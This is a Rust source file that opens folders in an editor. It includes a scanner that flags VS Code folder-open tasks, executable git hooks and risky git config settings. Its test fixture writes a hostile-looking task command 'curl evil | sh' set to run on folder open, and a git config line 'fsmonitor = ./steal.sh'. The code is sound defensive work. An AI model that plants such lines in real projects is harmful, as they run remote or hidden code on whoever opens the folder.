//! Opening a folder in the person's editor: the configured command (VS Code's `code`) when it is
//! on the manager's PATH, else the system's opener (the `open` crate: `xdg-open` and kin). Only
//! the manager does this, never an agent or the UI; whether a path may be opened is decided by the
//! caller ([`crate::manager::Manager::open_path`]).
use std::path::Path;
use std::process::Stdio;

use tokio::io::AsyncReadExt;

use crate::config;
use crate::error::{Error, Result};

/// Most bytes of an editor command's error output kept for the error message.
const STDERR_KEPT: usize = 2000;

/// A file to show once the folder is open, at a line and column (1-based).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Goto {
    /// The file (absolute, inside the folder being opened).
    pub file: std::path::PathBuf,
    /// 1-based.
    pub line: u32,
    /// 1-based.
    pub column: u32,
}

/// The editor's arguments after the folder that show `goto`'s file at its line: `editor.goto`
/// with `{file}`, `{line}` and `{column}` filled in (VS Code: `--goto <file>:<line>:<column>`).
pub fn goto_args(cfg: &config::Editor, goto: &Goto) -> Vec<std::ffi::OsString> {
    cfg.goto
        .iter()
        .map(|a| {
            // The file may not be UTF-8: put its bytes in as they are.
            use std::os::unix::ffi::{OsStrExt, OsStringExt};
            let mut out = Vec::new();
            let mut rest = a.as_str();
            while let Some(i) = rest.find('{') {
                out.extend_from_slice(&rest.as_bytes()[..i]);
                let tail = &rest[i..];
                let (value, len): (Vec<u8>, usize) = if tail.starts_with("{file}") {
                    (goto.file.as_os_str().as_bytes().to_vec(), 6)
                } else if tail.starts_with("{line}") {
                    (goto.line.to_string().into_bytes(), 6)
                } else if tail.starts_with("{column}") {
                    (goto.column.to_string().into_bytes(), 8)
                } else {
                    (b"{".to_vec(), 1)
                };
                out.extend_from_slice(&value);
                rest = &tail[len..];
            }
            out.extend_from_slice(rest.as_bytes());
            std::ffi::OsString::from_vec(out)
        })
        .collect()
}

/// The editor [`open`] would run, in the words it returns ("code (/usr/bin/code)"), when
/// `editor.command` is on the manager's PATH; `None` when the system's opener would be used.
pub fn found(cfg: &config::Editor) -> Option<String> {
    let program = cfg.command.first()?;
    let found = crate::supervisor::which(Path::new(program))?;
    Some(named(program, &found))
}

/// What [`open`] would open a folder with, in the words it returns: the editor when it is on the
/// manager's PATH, else the system's opener.
pub fn would_open(cfg: &config::Editor) -> String {
    found(cfg).unwrap_or_else(|| {
        let program = cfg.command.first().map_or("", String::as_str);
        system_opener(program)
    })
}

/// The system's opener in words, naming the editor it stands in for.
fn system_opener(program: &str) -> String {
    format!("the system opener (`{program}` is not on PATH)")
}

/// An editor in words: the program as configured and where it was found.
fn named(program: &str, found: &Path) -> String {
    format!("{program} ({})", found.display())
}

/// Opens `path` (and, when given, shows `goto`'s file at its line); returns what opened it, in
/// words (e.g. "code (/usr/bin/code)"). The system opener cannot go to a line: it opens the
/// folder, and the words say so.
pub async fn open(cfg: &config::Editor, path: &Path, goto: Option<&Goto>) -> Result<String> {
    let Some((program, args)) = cfg.command.split_first() else {
        return Err(Error::InvalidInput("editor.command is empty".into()));
    };
    match crate::supervisor::which(Path::new(program)) {
        Some(found) => {
            let extra = goto.map(|g| goto_args(cfg, g)).unwrap_or_default();
            run(cfg, program, &found, args, path, &extra).await
        }
        None => {
            let p = path.to_path_buf();
            tokio::task::spawn_blocking(move || open::that_detached(&p))
                .await
                .map_err(|e| Error::io("running the system opener", std::io::Error::other(e)))?
                .map_err(|e| {
                    Error::FailedPrecondition(format!(
                        "`{program}` is not on the manager's PATH and the system opener failed: {e}; install VS Code's `code` command or set editor.command"
                    ))
                })?;
            Ok(match goto {
                None => system_opener(program),
                Some(g) => format!(
                    "the system opener (`{program}` is not on PATH; it opened the folder, not {} at line {})",
                    g.file.display(),
                    g.line
                ),
            })
        }
    }
}

/// Runs the editor's command with the folder. It counts as opened when the command hands the
/// folder over and exits 0 (VS Code's `code` does), or is still running after
/// `editor.launch_timeout` (an editor that stays in the foreground); it keeps running either way.
async fn run(
    cfg: &config::Editor,
    program: &str,
    found: &Path,
    args: &[String],
    path: &Path,
    extra: &[std::ffi::OsString],
) -> Result<String> {
    let mut child = tokio::process::Command::new(found)
        .args(args)
        .arg(path)
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| Error::io(format!("starting the editor {}", found.display()), e))?;
    // Drained to the end even after we stop waiting, so the editor never writes to a closed pipe.
    let mut stderr = child.stderr.take().expect("piped");
    let (tx, rx) = tokio::sync::oneshot::channel();
    tokio::spawn(async move {
        let mut all = Vec::new();
        let _ = stderr.read_to_end(&mut all).await;
        let _ = tx.send(all);
    });
    let opener = named(program, found);
    let status = match tokio::time::timeout(cfg.launch_timeout, child.wait()).await {
        Err(_) => return Ok(opener), // still running: an editor in the foreground
        Ok(status) => status.map_err(|e| Error::io(format!("waiting for {opener}"), e))?,
    };
    if status.success() {
        return Ok(opener);
    }
    let err = rx.await.unwrap_or_default();
    let tail = String::from_utf8_lossy(&err[err.len().saturating_sub(STDERR_KEPT)..])
        .trim()
        .to_string();
    let how = match status.code() {
        Some(code) => format!("it exited with code {code}"),
        None => "it was stopped by a signal".to_string(),
    };
    Err(Error::FailedPrecondition(format!(
        "the editor {opener} failed ({how}){}",
        if tail.is_empty() {
            String::new()
        } else {
            format!(": {tail}")
        }
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn editor(dir: &Path, script: &str) -> config::Editor {
        let p = dir.join("editor");
        std::fs::write(&p, script).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        config::Editor {
            command: vec![p.display().to_string(), "--new-window".into()],
            ..config::Editor::default()
        }
    }

    #[tokio::test]
    async fn the_editor_gets_its_arguments_then_the_folder() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("args");
        let cfg = editor(
            dir.path(),
            &format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > {}\n", log.display()),
        );
        let opener = open(&cfg, Path::new("/some/folder"), None).await.unwrap();
        assert!(opener.contains("editor"), "{opener}");
        assert_eq!(
            std::fs::read_to_string(&log).unwrap(),
            "--new-window\n/some/folder\n"
        );
    }

    #[tokio::test]
    async fn a_file_at_a_line_follows_the_folder_as_editor_goto_says() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("args");
        let cfg = editor(
            dir.path(),
            &format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > {}\n", log.display()),
        );
        let goto = Goto {
            file: "/some/folder/src/app {x}.py".into(),
            line: 12,
            column: 5,
        };
        open(&cfg, Path::new("/some/folder"), Some(&goto))
            .await
            .unwrap();
        assert_eq!(
            std::fs::read_to_string(&log).unwrap(),
            "--new-window\n/some/folder\n--goto\n/some/folder/src/app {x}.py:12:5\n"
        );
        let vim = config::Editor {
            goto: vec!["+{line}".into(), "{file}".into()],
            ..cfg
        };
        let args: Vec<String> = goto_args(&vim, &goto)
            .into_iter()
            .map(|a| a.into_string().unwrap())
            .collect();
        assert_eq!(args, ["+12", "/some/folder/src/app {x}.py"]);
    }

    #[tokio::test]
    async fn a_failing_editor_is_an_error_with_what_it_said() {
        let dir = tempfile::tempdir().unwrap();
        let cfg = editor(dir.path(), "#!/bin/sh\necho 'no display' >&2\nexit 3\n");
        let e = open(&cfg, Path::new("/x"), None)
            .await
            .unwrap_err()
            .to_string();
        assert!(e.contains("failed") && e.contains("no display"), "{e}");
    }
}

/// What in `dir` can run code when an editor opens it or git runs in it, in words: a
/// `.vscode/tasks.json` task with `"runOn": "folderOpen"`, executable git hooks, and git's
/// `core.fsmonitor` / `core.hooksPath` settings. A task wrote this folder; the person should
/// know before their editor (or its git integration) runs any of it.
pub fn code_that_runs_on_open(dir: &std::path::Path) -> Vec<String> {
    use std::os::unix::fs::PermissionsExt;
    let mut found = Vec::new();
    let read = |p: &std::path::Path| {
        // Small files only: these are settings, not data.
        std::fs::metadata(p)
            .ok()
            .filter(|m| m.is_file() && m.len() < 1 << 20)
            .and_then(|_| std::fs::read_to_string(p).ok())
    };
    let tasks = dir.join(".vscode/tasks.json");
    if let Some(text) = read(&tasks) {
        let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
        if compact.contains("\"runOn\":\"folderOpen\"") {
            found.push(format!(
                "{} has a task that runs when the folder is opened (\"runOn\": \"folderOpen\")",
                tasks.display()
            ));
        }
    }
    let git = dir.join(".git");
    if let Ok(hooks) = std::fs::read_dir(git.join("hooks")) {
        let mut names: Vec<String> = hooks
            .flatten()
            .filter(|e| {
                let name = e.file_name();
                !name.to_string_lossy().ends_with(".sample")
                    && e.metadata()
                        .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
            })
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        if !names.is_empty() {
            found.push(format!(
                "{} has git hooks that git runs for you: {}",
                git.join("hooks").display(),
                names.join(", ")
            ));
        }
    }
    if let Some(config) = read(&git.join("config")) {
        for line in config.lines() {
            let l = line.trim().to_ascii_lowercase();
            for key in ["fsmonitor", "hookspath", "sshcommand", "pager", "editor"] {
                if l.starts_with(key) && l[key.len()..].trim_start().starts_with('=') {
                    found.push(format!(
                        "{} sets `{}`, a command git runs (e.g. on every `git status`)",
                        git.join("config").display(),
                        line.trim()
                    ));
                }
            }
        }
    }
    found
}

#[cfg(test)]
mod scan_tests {
    use super::*;

    #[test]
    fn what_runs_on_open_is_named() {
        let d = tempfile::tempdir().unwrap();
        assert!(code_that_runs_on_open(d.path()).is_empty());
        std::fs::create_dir_all(d.path().join(".vscode")).unwrap();
        std::fs::write(
            d.path().join(".vscode/tasks.json"),
            r#"{"tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}"#,
        )
        .unwrap();
        std::fs::create_dir_all(d.path().join(".git/hooks")).unwrap();
        std::fs::write(d.path().join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(
            d.path().join(".git/hooks/post-checkout"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        std::fs::write(d.path().join(".git/hooks/pre-commit.sample"), "").unwrap();
        std::fs::write(
            d.path().join(".git/config"),
            "[core]\n\tfsmonitor = ./steal.sh\n",
        )
        .unwrap();
        let found = code_that_runs_on_open(d.path());
        assert_eq!(found.len(), 3, "{found:?}");
        assert!(found[0].contains("folderOpen"));
        assert!(found[1].contains("post-checkout") && !found[1].contains("sample"));
        assert!(found[2].contains("fsmonitor = ./steal.sh"));
    }
}
